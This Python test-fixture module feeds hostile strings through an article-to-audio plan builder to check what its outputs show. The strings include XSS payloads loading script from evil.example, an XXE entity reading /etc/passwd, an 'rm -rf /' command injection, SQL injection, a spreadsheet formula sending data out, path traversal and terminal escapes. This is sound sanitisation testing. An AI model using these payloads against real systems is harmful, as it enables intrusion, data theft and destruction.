"""Texts that would be obeyed if an output let them, and what people may be shown of them.

Each stands in every place of an article where somebody else's words stand; see ``plan``.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterable, Mapping
from typing import Any

WORD = "көпір"
"""What every voice can say."""

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script with a source": "<ScRiPt src=https://evil.example/x.js></sCrIpT >",
    "end of a script": "</script><script>found.push('ran')</script>",
    "end of a style": "</style><style>*{background:url(https://evil.example/s)}</style>",
    "end of a title": "</title><img src=x onerror=alert(1)>",
    "end of a text area": "</textarea></noscript></template></svg></math><iframe src=javascript:alert(1)>",
    "a picture": "<img src=https://evil.example/p.png onerror=alert(1)>",
    "a vector": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "a base and a refresh": "<base href=//evil.example/><meta http-equiv=refresh content='0;//evil.example'>",
    "a double quote": '" onload="alert(1)" autofocus onfocus="alert(1)',
    "a single quote": "' onmouseover='alert(1)'>",
    "a backtick": "`onclick=alert(1)`",
    "the end of a tag": '"/><b>bold</b>',
    "an open tag": "<a href='https://evil.example/",
    "an open comment": "<!-- hidden",
    "the end of a comment": "--> shown --!>",
    "script in a comment": "<!--<script>",
    "the end of CDATA": "]]><b>x</b>",
    "CDATA": "<![CDATA[ <b>x</b> ]]>",
    "a processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "a bomb of entities": '<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b "lol">]>&a;',
    "an external entity": '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "entities": "&lt;b&gt; &amp;lt; &amp;amp; &quot; &apos; &nbsp; &copy &notit; &",
    "numbered entities": "&#x0; &#0; &#x3c;script&#x3e; &#60 &#xD800; &#x110000; &#128;",
}
CONTROLS = {
    "an escape sequence": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1bP1$r\x1b\\",
    "a link in a terminal": "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "escape sequences of 8 bits": "\x9b31mred\x9d0;title\x9c\x90q\x9c",
    "controls": "C0" + "".join(map(chr, range(1, 32))) + "\x7f",
    "controls of C1": "C1" + "".join(map(chr, range(0x80, 0xA0))),
    "nothing to show": "\x01\x02\x7f\x85\x9f",
    "NUL": "before\0after",
    "NUL at both ends": "\0\0x\0",
    "backspaces": "good\b\b\b\bevil\r",
    "line ends": "one\ntwo\r\nthree\rfour\x0bfive\x0csix\x85seven\u2028eight\u2029nine",
    "empty lines": "one\n\n\n\ntwo",
    "separators": "a\x1cb\x1dc\x1ed\x1fe",
}
INVISIBLE = {
    "an override": "\u202egpj.exe \u202dltr",
    "embeddings": "\u202a\u202b\u202cpopped\u202c",
    "isolates": "\u2066a\u2067b\u2068c",
    "an isolate closed too often": "a\u2069\u2069\u202c b",
    "marks of direction": "\u200e\u200f\u061cmarks",
    "zero width": "ze\u200bro\u200c wi\u200ddth\u2060",
    "byte order marks": "\ufeffat the start, in\ufeffside\ufeff",
    "soft hyphens": "so\u00adft hy\u00adphens",
    "noncharacters": "non\ufffe\uffff\ufdd0\U0001fffe\U0010ffffcharacters",
    "private letters": "\ue000\uf8ff\U000f0000",
    "tag letters": "tag\U000e0001\U000e0041\U000e007f",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100",
    "interlinear marks": "\ufff9a\ufffab\ufffb \ufffc\ufffd",
    "spaces": "\u00a0a\u1680b\u2003c\u202fd\u3000e\u180ef",
}
LETTERS = {
    "a flood of marks": "z" + "\u0300\u0489\u20dd" * 300,
    "marks alone": "\u0301\u0308 \u0301",
    "a lone high surrogate": "high\ud83dend",
    "a lone low surrogate": "low\udc00end",
    "escaped bytes": "bytes\udc80\udcff",
    "two halves in the wrong order": "\ude00\ud83d",
    "letters beyond 16 bits": "𝕏𐍈🜚 𠮷野家",
    "a family": "👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇰🇿 👍🏽",
    "Hebrew and Arabic": "שלום <b> עולם! (1) السلام عليكم ١٢٣",
    "Arabic that is one sign": "ﷺ ﷽ لا",
    "look-alikes": "＜script＞ ‹b› ﹤i﹥ ＂ ʺ ｡",
    "letters that grow": "İ ß ŉ ǰ ΐ ﬃ",
    "a very long word": "Ұзақ" * 700,
    "a long word of signs": "<" * 400 + ">" * 400,
    "many short words": "а " * 300,
}
FORMATS = {
    "WebVTT": "WEBVTT\n\nNOTE hidden\n\nSTYLE\n::cue { color: red }\n\nREGION\nid:x",
    "a cue": "7\n00:00:00.000 --> 99:59:59.999 align:start\n<v Evil><c.x><00:00:01.000>told</c></v>",
    "an arrow": "00:00:01.000 --> 00:00:02.000",
    "SubRip": "1\n00:00:00,000 --> 00:00:09,000\n<font color=red>{\\an8}{\\b1}told</font>",
    "a number": "1",
    "lyrics": "[00:01.00]line [ti:title] [offset:+999]",
    "ffmetadata": ";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\ntitle=a\\=b;c#d\\",
    "a backslash at the end": "end\\",
    "backslashes": "\\\\ \\n \\u0000 \\x1b \\\" \\'",
    "a Vorbis comment": "TITLE=other\nCHAPTER000=00:00:00.000\nMETADATA_BLOCK_PICTURE=AAAA",
    "values of ID3": "a/b;c\\\\d\x00e",
    "TOML": '"\n[cast]\n"x" = "y" # \'\'\' """',
    "INI": "[section]\nkey = value ; comment\n%(path)s ${HOME} $(id) `id`",
    "JSON": '"},{"a":"\\u0000"}],"b":[null]//',
    "JSONP": "</script>*/alert(1)/*",
    "CSV": '",x\t;"y"',
    "a formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "more formulas": "+1+1 -1-1 @SUM(1) |cmd",
    "Markdown": "[x](javascript:alert(1)) ![](https://evil.example/i) **b** `c` # h ~~~",
    "markup of a console": "[red]red[/red] [/] [link=https://evil.example/]x[/link] \\[b]",
    "a style of a console": "[bold on red blink]\\[/bold",
    "an emoji code": ":smile: :bomb:",
    "format strings": "%s %n %(x)d {0} {x!r} {0.__class__} ${x} {{x}} #{x} <%= x %>",
    "a command": "; rm -rf / && $(touch x) | `id` > y",
    "SQL": "'; DROP TABLE x; --",
}
PLACES = {
    "a script address": "javascript:alert(document.domain)",
    "a script address with gaps": "java\tscript:\nalert(1)",
    "a data address": "data:text/html,<script>alert(1)</script>",
    "a file address": "file:///etc/passwd",
    "an address without a scheme": "//evil.example/x",
    "an address that breaks out": 'https://evil.example/"><script>alert(1)</script>',
    "an address of two lines": "https://evil.example/\r\nX-Header: 1\r\n\r\n<b>",
    "an address with a user": "https://good.example@evil.example/\\..\\",
    "a way up": "../../../../etc/passwd",
    "a Windows way up": "..\\..\\x\\C:\\y",
    "the root": "/etc/passwd",
    "a device": "CON",
    "a stream of a file": "file.txt::$DATA",
    "dots at the end": "name. . .",
    "a hidden name": ".htaccess",
    "an option": "--output=/etc/passwd",
    "a name of the page's own": "__proto__",
    "an id of the page's own": "constructor data article c0",
}
GROUPS = {
    "markup": MARKUP,
    "controls": CONTROLS,
    "invisible": INVISIBLE,
    "letters": LETTERS,
    "formats": FORMATS,
    "places": PLACES,
}
TEXTS = {name: text for group in GROUPS.values() for name, text in group.items()}
"""Name → text."""
SHOWN = [text for text in TEXTS.values() if len(text) < 1000 and text != CONTROLS["nothing to show"]]
"""Those of a length that an article could have."""

NOT_CARRIED = {*map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0xFFFE, 0xFFFF))}


def written(text: str) -> str:
    """What a plan is understood to say: a half of a letter is none."""
    return "".join("\ufffd" if unicodedata.category(c) == "Cs" else c for c in text)


def one_line(text: str) -> str:
    """What outputs show of ``text``: no control, single spaces."""
    spaced = " ".join(written(text).split())
    return " ".join("".join(c for c in spaced if unicodedata.category(c) != "Cc").split())


def in_a_cue(text: str) -> str:
    """As ``one_line``, in WebVTT: U+FFFF would end it in Chromium."""
    return one_line(text.replace("\uffff", ""))


def carried(text: str) -> str:
    """As ``one_line``, in documents that other programs put together: nothing turns what follows."""
    return " ".join("".join(c for c in one_line(text) if c not in NOT_CARRIED).split())


def visible(text: str) -> str:
    """As ``one_line``, on a terminal: nothing hides, and nothing lacks a sign."""
    return " ".join("".join(c for c in one_line(text) if unicodedata.category(c)[0] != "C").split())


def steering(text: str) -> set[str]:
    """The characters of ``text`` that a terminal would obey or hide; line ends are its own."""
    return {c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


class _Source:
    """A source text while it is put together: every piece is a line, and knows its place."""

    def __init__(self) -> None:
        self.text = ""

    def placed(self, text: str) -> dict[str, Any]:
        start = len(self.text)
        self.text += f"{text}\n\n"
        return {"text": text, "start": start, "end": start + len(text)}


def plan(text: str, *others: str) -> dict[str, Any]:
    """A plan with ``text`` in every place; ``others`` are headings, quotes, speakers and left out besides.

    All is said as one word, quickly, but for what shows nothing and so may not be said at all.
    """
    source = _Source()

    def said(kind: str, text: str, **facts: object) -> dict[str, Any]:
        spoken = {"spoken": WORD} if one_line(text) else {}
        return {**source.placed(text), "kind": kind, **spoken, **facts}

    speaker = {"name": text if one_line(text) else WORD, "role": text, "evidence": text}
    segments = [
        said("headline", text),
        said("dek", f"{text} {WORD}."),
        said("byline", f"{WORD} {text}"),
        said("heading", text),
        said("narration", f"{text} {WORD}. {WORD} {text}"),
        said("attribution", text, speaker=speaker),
        said("quote", f"{text} {WORD}. {WORD} {text}", speaker=speaker),
        *(said("heading", other) for other in others),
        *(said("quote", f"{other} {WORD}", speaker={"name": other}) for other in others),
    ]
    facts = dict.fromkeys(("name", "headline", "author", "address", "description"), text)
    return {
        "format": "audiobrief plan 1",
        "language": "kk",
        "date": "2024-12-30",
        **facts,
        "segments": segments,
        "dropped": [{**source.placed(one), "reason": one} for one in (text, *others)],
        "source": source.text,
    }


def as_json(document: Mapping[str, Any]) -> str:
    """A plan as a file; lone surrogates are escapes."""
    return json.dumps(document)


def words(texts: Iterable[str]) -> list[str]:
    """The words of ``texts`` as outputs show them."""
    return [word for text in texts for word in one_line(text).split()]
